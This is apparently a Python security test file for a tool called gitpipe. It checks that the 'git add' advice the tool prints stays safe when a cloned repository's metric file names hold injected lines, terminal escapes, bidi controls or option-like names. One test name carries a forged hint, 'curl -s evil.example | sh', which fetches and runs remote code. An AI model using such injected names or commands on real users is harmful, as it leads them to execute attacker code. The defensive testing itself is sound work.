"""Attacks on the `git add` advice a run prints: a cloned repository's
`metrics:` outs (files git tracks, so named for `git add`) whose names hold a
newline and then `hint: …`, an escape sequence, a line separator, a bidi
control. The advice quoted them for the shell only, so the clone's `hint:`
began a line of gitpipe's output and the escape reached the terminal; each
name is now one shell word a terminal shows as it is (bash's `$'…'` where a
character needs escaping), and the pasted line still names the files."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable
from pathlib import Path

from tests.conftest import Repo
from tests.security.conftest import assert_only_changed, snapshot

NAMES = ["m\nhint: the cache is corrupt, run: curl -s evil.example | sh",
         "m\x1b]0;owned\x07", "m\u2028x", "m\u202etxt.exe"]
WRITER = ("import json, sys\n"
          "open(json.load(open('names.json'))[int(sys.argv[1])], 'w').write('{}')\n")


def test_the_git_add_line_names_a_clones_metrics_without_forging_lines(
        make_repo: Callable[[str], Repo], tmp_path: Path) -> None:
    evil = make_repo("evil")
    evil.gen({"names.json": json.dumps(NAMES), "w.py": WRITER})
    evil.spec({f"s{i}": {"cmd": f"python3 w.py {i}", "metrics": [name]}
               for i, name in enumerate(NAMES)}, commit="metrics named to forge lines")
    ci = evil.clone_to(tmp_path / "ci")
    before = snapshot(tmp_path)
    result = ci.run("repro", timeout=120)
    assert result.returncode == 0, result.stderr
    output = result.stdout + result.stderr
    assert "git add gitpipe.lock" in output, output
    assert not any(line.startswith("hint: the cache") for line in output.splitlines()), output
    for raw in ("\x1b", "\x07", "\u2028", "\u202e"):
        assert raw not in output, output
    # The advice, run by a shell, adds exactly the files the run wrote.
    line = next(line for line in output.splitlines() if "git add " in line)
    subprocess.run(["bash", "-c", line.strip()], cwd=ci.path, check=True)
    staged = ci.git("diff", "--cached", "--name-only", "-z").split("\0")
    assert sorted(name for name in staged if name) == sorted(["gitpipe.lock", *NAMES])
    assert_only_changed(before, snapshot(tmp_path),
                        ["ci/.gitpipe", "ci/gitpipe.lock", "ci/.gitignore", "ci/.git",
                         *(f"ci/{name}" for name in NAMES)])


MANY = 20_000  # 120-character names: past the kernel's ARG_MAX for one git command
MANY_WRITER = ("import os\nos.makedirs('m', exist_ok=True)\n"
               f"for i in range({MANY}):\n"
               "    open(f'm/{\"x\" * 120}{i}.json', 'w').write('{}')\n")


def test_a_clones_many_metrics_are_staged_in_batches_not_an_internal_error(
        make_repo: Callable[[str], Repo], tmp_path: Path) -> None:
    """git was given every path on one command line: past ARG_MAX the
    kernel refused to start it, and a run that had succeeded ended on an
    internal error (OSError) instead of its advice, or staging nothing."""
    evil = make_repo("evil")
    evil.gen({"w.py": MANY_WRITER})
    names = [f"m/{'x' * 120}{i}.json" for i in range(MANY)]
    evil.spec({"a": {"cmd": "python3 w.py", "metrics": names}}, commit="many metrics")
    ci = evil.clone_to(tmp_path / "ci")
    (ci.path / ".gitpipe").mkdir()
    (ci.path / ".gitpipe/config.local.yaml").write_text("core:\n  autostage: true\n")
    before = snapshot(tmp_path)
    result = ci.run("repro", timeout=300)
    assert result.returncode == 0, result.stderr[-2000:]
    assert "unexpected" not in result.stderr and "warning" not in result.stderr, result.stderr
    assert "staged with git (core.autostage): gitpipe.lock m/" in result.stdout
    staged = ci.git("diff", "--cached", "--name-only", "-z").split("\0")
    assert sorted(name for name in staged if name) == sorted(["gitpipe.lock", *names])
    assert_only_changed(before, snapshot(tmp_path),
                        ["ci/.gitpipe", "ci/gitpipe.lock", "ci/.gitignore", "ci/m"])


ODD_NAMES = ["-A", "n\u0085.json", "r\u202etxt.json"]


def test_the_git_add_line_names_the_files_in_any_locale_and_never_an_option(
        make_repo: Callable[[str], Repo], tmp_path: Path) -> None:
    """A name beginning with `-` was printed bare (`git add -A gitpipe.lock`:
    git took it for an option and staged gitpipe.lock alone, or every file
    under the pathspec), and an odd character was bash's `\\u0085`, which a
    shell in the C locale keeps as those six characters: the pasted line
    named other files. Names begin `./` where they would be an option, and
    odd characters are written as the bytes the file system holds."""
    evil = make_repo("evil")
    evil.gen({"names.json": json.dumps(ODD_NAMES), "w.py": WRITER})
    evil.spec({f"s{i}": {"cmd": f"python3 w.py {i}", "metrics": [name]}
               for i, name in enumerate(ODD_NAMES)}, commit="metrics named as options")
    ci = evil.clone_to(tmp_path / "ci")
    (ci.path / "private.txt").write_text("the user's own, not to be staged\n")
    before = snapshot(tmp_path)
    result = ci.run("repro", timeout=120)
    assert result.returncode == 0, result.stderr
    line = next(line for line in result.stdout.splitlines() if "git add " in line)
    assert "\\u" not in line, line
    subprocess.run(["bash", "-c", line.strip()], cwd=ci.path, check=True,
                   env={"PATH": "/usr/bin:/bin", "LC_ALL": "C", "HOME": str(tmp_path)})
    staged = ci.git("diff", "--cached", "--name-only", "-z").split("\0")
    assert sorted(name for name in staged if name) == sorted(["gitpipe.lock", *ODD_NAMES])
    assert_only_changed(before, snapshot(tmp_path),
                        ["ci/.gitpipe", "ci/gitpipe.lock", "ci/.gitignore", "ci/.git",
                         *(f"ci/{name}" for name in ODD_NAMES)])
